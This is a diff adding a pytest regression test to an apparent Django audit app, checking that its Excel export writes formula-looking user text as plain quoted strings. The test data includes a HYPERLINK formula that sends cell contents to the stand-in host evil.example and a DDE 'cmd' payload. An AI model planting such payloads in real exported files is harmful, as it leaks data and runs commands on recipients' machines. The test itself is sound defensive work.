@@ -26,6 +26,7 @@ import dataclasses
 import datetime as dt
 import io
 import re
+import zipfile
 
 import pytest
 from django.utils import timezone
@@ -624,3 +625,36 @@ def test_compare_asks_for_two_audits(client, spring, autumn, lead):
     ]
     same = client.get(f"/audits/compare/?first={spring.pk}&second={spring.pk}")
     assert error_summary(same) == [("#id_second", "Choose a different audit from the first")]
+
+
+# --------------------------------------------------------------- formula injection
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(client, spring, lead):
+    """Issue 12, finding 2: an audit's name and an auditor's evidence beginning with
+    ``=`` or ``+`` are kept as text in the workbook, never as live formulas."""
+    Audit.objects.filter(pk=spring.pk).update(name=HYPERLINK)
+    StandardRating.objects.filter(audit=spring, standard="3.4").update(
+        evidence="+1+cmd|'/C calc'!A0"
+    )
+    Answer.objects.filter(case__audit=spring, evidence="No analysis of the offence").update(
+        evidence="@SUM(A1:A9)"
+    )
+    response = sign_in(client, lead).get(f"/audits/{spring.pk}/results.xlsx")
+
+    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        assert not any(b"<f>" in package.read(name) for name in sheets)  # no formula at all
+    book = workbook(response)
+    title = book["Summary"]["A1"]
+    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
+    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert any("+1+cmd|'/C calc'!A0" in c.value for c in texts)
+    assert [c.quotePrefix for c in texts if c.value == "@SUM(A1:A9)"] == [True]
+    starting = [c for c in texts if c.value.startswith(("=", "+", "-", "@"))]
+    assert len(starting) >= 2
+    assert all(c.quotePrefix and c.data_type == "s" for c in starting)
